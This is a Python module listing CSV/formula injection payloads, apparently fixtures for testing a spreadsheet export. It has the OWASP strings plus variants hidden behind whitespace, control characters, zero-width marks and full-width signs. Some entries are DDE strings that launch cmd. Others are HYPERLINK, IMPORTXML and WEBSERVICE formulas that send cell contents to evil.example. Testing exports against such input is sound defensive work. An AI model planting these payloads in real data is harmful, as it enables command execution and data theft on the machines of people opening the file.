"""CSV/formula injection payloads (OWASP "CSV Injection" page and the usual lists built
on it), plus the variants that hide the formula behind what a spreadsheet skips: leading
whitespace, control characters, zero-width marks and full-width signs.

Each payload is text an attacker can get into a title, author, journal, note, reason
label or extracted value. None holds a NUL (PostgreSQL text cannot store it)."""

PAYLOADS = (
    # OWASP
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    # what a spreadsheet skips before looking for a formula
    "\t=1+1",
    "\r=1+1",
    "\n-3+3+cmd|' /C calc'!A0",
    " =1+1",
    "   @SUM(A1:A9)",
    '\x01=HYPERLINK("http://evil.example","click")',
    "\x07\x1f+1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2028=1+1",
    "\x85=1+1",
    # full-width and minus signs, which some spreadsheets read as their ASCII forms
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\u22121+1",
)
